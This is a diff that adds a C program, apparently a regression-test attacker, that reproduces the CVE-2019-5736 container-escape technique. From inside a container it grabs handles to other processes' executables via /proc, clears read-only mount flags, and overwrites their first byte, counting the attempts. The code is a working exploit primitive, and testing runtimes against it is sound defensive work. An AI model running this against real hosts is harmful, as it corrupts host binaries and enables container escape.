@@ -1,0 +1,123 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* The attacker of CVE-2019-5736: poller NAME... runs inside a container, keeps a handle on the
+ * executable of every process it sees that is not one of NAME, and tries again and again to write
+ * to it, also by clearing "read-only" of its mount. Until SIGTERM or a file /stop, then it prints
+ * "seen N opened N written N". */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/mount.h>
+#include <signal.h>
+#include <stdbool.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+enum { MAX_HANDLES = 256 };
+
+static struct {
+	int fd;
+	dev_t dev;
+	ino_t ino;
+} handles[MAX_HANDLES];
+static size_t nhandles;
+static unsigned long opened, written;
+
+static bool is_known(int fd)
+{
+	struct stat st;
+
+	if (fstat(fd, &st) < 0)
+		return true;
+	for (size_t i = 0; i < nhandles; i++)
+		if (handles[i].dev == st.st_dev && handles[i].ino == st.st_ino)
+			return true;
+	if (nhandles == MAX_HANDLES)
+		return true;
+	handles[nhandles].fd = fd;
+	handles[nhandles].dev = st.st_dev;
+	handles[nhandles].ino = st.st_ino;
+	nhandles++;
+	return false;
+}
+
+static bool is_ours(const char *path, char **names)
+{
+	char target[4096];
+	ssize_t n = readlink(path, target, sizeof(target) - 1);
+
+	if (n < 0)
+		return true;
+	target[n] = 0;
+	for (; *names; names++)
+		if (strcmp(target, *names) == 0)
+			return true;
+	return false;
+}
+
+static void collect(char **names)
+{
+	DIR *d = opendir("/proc");
+
+	for (struct dirent *e; d && (e = readdir(d));) {
+		char path[300];
+
+		if (e->d_name[0] < '1' || e->d_name[0] > '9')
+			continue;
+		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
+		if (is_ours(path, names))
+			continue;
+		int fd = open(path, O_PATH | O_CLOEXEC);
+
+		if (fd >= 0 && is_known(fd))
+			close(fd);
+	}
+	if (d)
+		closedir(d);
+}
+
+static void attack(int handle)
+{
+	static const int modes[] = { O_RDWR, O_WRONLY };
+	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
+	char path[64];
+
+	syscall(SYS_mount_setattr, handle, "", AT_EMPTY_PATH, &writable, sizeof(writable));
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", handle);
+	for (size_t i = 0; i < sizeof(modes) / sizeof(*modes); i++) {
+		int fd = open(path, modes[i] | O_CLOEXEC);
+
+		if (fd < 0)
+			continue;
+		opened++;
+		if (pwrite(fd, "\177", 1, 0) == 1) /* what is there anyway: the damage is enough */
+			written++;
+		close(fd);
+	}
+}
+
+int main(int argc, char **argv)
+{
+	sigset_t term;
+
+	(void)argc;
+	sigemptyset(&term);
+	sigaddset(&term, SIGTERM);
+	sigprocmask(SIG_BLOCK, &term, NULL);
+	printf("ready\n");
+	fflush(stdout);
+	for (;;) {
+		struct timespec now = { 0 };
+
+		if (sigtimedwait(&term, NULL, &now) == SIGTERM || access("/stop", F_OK) == 0)
+			break;
+		collect(argv + 1);
+		for (size_t i = 0; i < nhandles; i++)
+			attack(handles[i].fd);
+	}
+	printf("seen %zu opened %lu written %lu\n", nhandles, opened, written);
+	return 0;
+}
